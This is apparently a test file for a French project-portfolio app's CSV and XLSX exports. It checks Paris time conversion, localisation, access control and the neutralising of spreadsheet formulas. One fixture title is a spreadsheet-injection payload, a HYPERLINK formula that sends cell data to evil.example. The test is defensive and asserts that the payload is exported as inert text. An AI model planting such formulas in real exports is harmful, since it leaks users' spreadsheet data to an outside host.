import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { buildPortfolioCsv, formatParisDateTime, neutraliseFormula, parisSpreadsheetDate } from '../../server/portfolio-export';
import { apiClient, createUser, startHarness, type Harness, type TestUser } from '../support/harness';

/**
 * The portfolio CSV as a French spreadsheet reads it: parsed back here with papaparse. Rows are
 * written straight into the read model (the export reads nothing else), under a template key of
 * this test only, and removed afterwards.
 */
describe('portfolio CSV and XLSX exports', () => {
  let h: Harness;
  let manager: TestUser;
  const templateKey = `export-${Date.now()}`;
  const ROWS = 260; // more than the dashboard's 200-row table: the export has no cap

  beforeAll(async () => {
    h = await startHarness({ notifier: false, worker: false });
    manager = await createUser(h, 'manager');
    await h.prisma.template.create({ data: { key: templateKey, version: 1, name: 'Consultation propriété intellectuelle', definition: { key: templateKey, version: 1, name: { fr: 'Consultation propriété intellectuelle', en: 'Intellectual property tender' }, phases: [] } } });
    await h.prisma.programme.createMany({
      data: [
        { id: `${templateKey}-parent`, title: 'DEFI — Destination Formation Innovante', templateKey, templateVersion: 1, status: 'active', startDate: '2026-01-05', nextDueAt: new Date('2026-11-30T23:31:10.511Z'), lateSteps: 2, stateVersion: 1, state: {} },
        { id: `${templateKey}-formula`, title: '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', parentId: `${templateKey}-parent`, templateKey, templateVersion: 1, status: 'paused', startDate: '2026-03-02', nextDueAt: new Date('2026-07-01T15:30:00.000Z'), lateSteps: 0, stateVersion: 1, state: {} },
        ...Array.from({ length: ROWS - 2 }, (_, i) => ({ id: `${templateKey}-${String(i).padStart(4, '0')}`, title: `Programme ${i}`, templateKey, templateVersion: 1, status: 'completed', startDate: '2025-09-01', lateSteps: 0, stateVersion: 1, state: {} })),
      ],
    });
  });
  afterAll(async () => {
    await h?.prisma.programme.deleteMany({ where: { templateKey } });
    await h?.prisma.template.deleteMany({ where: { key: templateKey } });
    await h?.stop();
  });

  it('exports every programme with Paris dates, names rather than codes, and no formula a spreadsheet would run', async () => {
    const res = await fetch(`${h.apiUrl}/api/v1/dashboard/export.csv?templateKey=${templateKey}`, { headers: { Authorization: `Bearer ${manager.token}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="jalons-portefeuille-\d{4}-\d{2}-\d{2}\.csv"$/);
    const body = Buffer.from(await res.arrayBuffer()).toString('utf8');
    expect(body.startsWith('\uFEFF')).toBe(true);
    const parsed = Papa.parse<string[]>(body.slice(1), { delimiter: ';', skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const [header, ...rows] = parsed.data;
    expect(header).toEqual(['Programme', 'Programme parent', 'Modèle', 'État', 'Santé', 'Date de démarrage', 'Prochaine échéance', 'Étapes en retard']);
    expect(rows).toHaveLength(ROWS);
    // Late first: 23:31 UTC on 30 November is 00:31 on 1 December in Paris.
    expect(rows[0]).toEqual(['DEFI — Destination Formation Innovante', '', 'Consultation propriété intellectuelle', 'en cours', 'En retard', '05/01/2026', '01/12/2026 00:31', '2']);
    // Summer time: 15:30 UTC is 17:30 in Paris; the sub-programme names its parent; the formula is text.
    expect(rows[1]).toEqual(["'=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Cliquez\")", 'DEFI — Destination Formation Innovante', 'Consultation propriété intellectuelle', 'en pause', '', '02/03/2026', '01/07/2026 17:30', '0']);
    expect(rows.slice(2).every((r) => r[3] === 'terminé' && r[6] === '')).toBe(true);
    expect(body).not.toMatch(/\d{4}-\d{2}-\d{2}T/); // no ISO instant anywhere
    expect(body).not.toContain(templateKey);

    // Partners have no portfolio.
    const partner = await createUser(h, 'partner');
    expect((await apiClient(h.apiUrl).get(`/api/v1/dashboard/export.csv`, partner.token)).status).toBe(403);
  });

  it('exports the same rows as an XLSX workbook: real Paris dates in a French format, names, text that stays text, every row', async () => {
    const res = await fetch(`${h.apiUrl}/api/v1/dashboard/export.xlsx?templateKey=${templateKey}`, { headers: { Authorization: `Bearer ${manager.token}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="jalons-portefeuille-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Portefeuille']);
    const sheet = workbook.worksheets[0]!;
    const values = (r: number) => (sheet.getRow(r).values as ExcelJS.CellValue[]).slice(1);
    expect(values(1)).toEqual(['Programme', 'Programme parent', 'Modèle', 'État', 'Santé', 'Date de démarrage', 'Prochaine échéance', 'Étapes en retard']);
    expect(sheet.rowCount).toBe(ROWS + 1); // every row, the header aside

    // Late first: 23:31:10 UTC on 30 November is 00:31:10 on 1 December in Paris, stored as that wall-clock time.
    const first = sheet.getRow(2);
    expect(values(2)).toEqual(['DEFI — Destination Formation Innovante', undefined, 'Consultation propriété intellectuelle', 'en cours', 'En retard', new Date('2026-01-05T00:00:00Z'), new Date('2026-12-01T00:31:10Z'), 2]);
    expect(first.getCell(6).type).toBe(ExcelJS.ValueType.Date);
    expect(first.getCell(6).numFmt).toBe('dd/mm/yyyy');
    expect(first.getCell(7).type).toBe(ExcelJS.ValueType.Date);
    expect(first.getCell(7).numFmt).toBe('dd/mm/yyyy hh:mm');
    expect(first.getCell(8).type).toBe(ExcelJS.ValueType.Number);

    // Summer time: 15:30 UTC is 17:30 in Paris; the formula-looking title is a text cell in the Text format, exactly as typed.
    const formula = sheet.getRow(3).getCell(1);
    expect(formula.type).toBe(ExcelJS.ValueType.String);
    expect(formula.value).toBe('=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")');
    expect(formula.numFmt).toBe('@');
    expect(values(3).slice(1)).toEqual(['DEFI — Destination Formation Innovante', 'Consultation propriété intellectuelle', 'en pause', undefined, new Date('2026-03-02T00:00:00Z'), new Date('2026-07-01T17:30:00Z'), 0]);

    // No formula anywhere in the workbook, no template code, no ISO instant.
    const texts: string[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      if (typeof cell.value === 'string') texts.push(cell.value);
    }));
    expect(texts.join('\n')).not.toContain(templateKey);
    expect(texts.join('\n')).not.toMatch(/\d{4}-\d{2}-\d{2}T/);
    const completed = Array.from({ length: ROWS - 2 }, (_, i) => sheet.getRow(i + 4));
    expect(completed.every((r) => r.getCell(4).value === 'terminé' && r.getCell(7).value === null)).toBe(true);

    // In English: the same rows, English words.
    const en = await fetch(`${h.apiUrl}/api/v1/dashboard/export.xlsx?templateKey=${templateKey}&lang=en`, { headers: { Authorization: `Bearer ${manager.token}` } });
    const english = new ExcelJS.Workbook();
    await english.xlsx.load(Buffer.from(await en.arrayBuffer()) as unknown as ArrayBuffer);
    expect((english.worksheets[0]!.getRow(2).values as ExcelJS.CellValue[]).slice(1, 6)).toEqual(['DEFI — Destination Formation Innovante', undefined, 'Intellectual property tender', 'in progress', 'Late']);

    const partner = await createUser(h, 'partner');
    expect((await apiClient(h.apiUrl).get(`/api/v1/dashboard/export.xlsx`, partner.token)).status).toBe(403);
  });

  it('stores Paris wall-clock times across both clock changes', () => {
    expect(parisSpreadsheetDate(new Date('2026-03-29T01:30:00Z'))).toEqual(new Date('2026-03-29T03:30:00Z')); // clocks go forward
    expect(parisSpreadsheetDate(new Date('2026-10-25T00:30:00Z'))).toEqual(new Date('2026-10-25T02:30:00Z')); // still summer time
    expect(parisSpreadsheetDate(new Date('2026-10-25T01:30:00Z'))).toEqual(new Date('2026-10-25T02:30:00Z')); // the hour repeated, winter time
    expect(parisSpreadsheetDate(new Date('2026-12-14T17:00:00Z'))).toEqual(new Date('2026-12-14T18:00:00Z'));
  });

  it('neutralises every cell that starts like a formula, and only those', () => {
    for (const risky of ['=1+1', '+33 6 12 34 56 78', '-2', '@SUM(A1)', '\tx', '\rx']) expect(neutraliseFormula(risky)).toBe(`'${risky}`);
    for (const safe of ['Programme = DEFI', 'Île-de-France', '', '12']) expect(neutraliseFormula(safe)).toBe(safe);
    const csv = buildPortfolioCsv([{ title: '@cmd', templateKey: 'k', templateVersion: 1, status: 'active', startDate: '2026-12-14', lateSteps: 0, nextDueAt: new Date('2026-12-14T17:00:00Z'), parentTitle: null }], new Map(), new Date('2026-12-01T00:00:00Z'));
    const [, row] = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', skipEmptyLines: true }).data;
    expect(row).toEqual(["'@cmd", '', 'k', 'en cours', 'Dans les temps', '14/12/2026', '14/12/2026 18:00', '0']);
    expect(formatParisDateTime(new Date('2026-03-29T01:30:00Z'))).toBe('29/03/2026 03:30'); // the night clocks go forward
  });
});
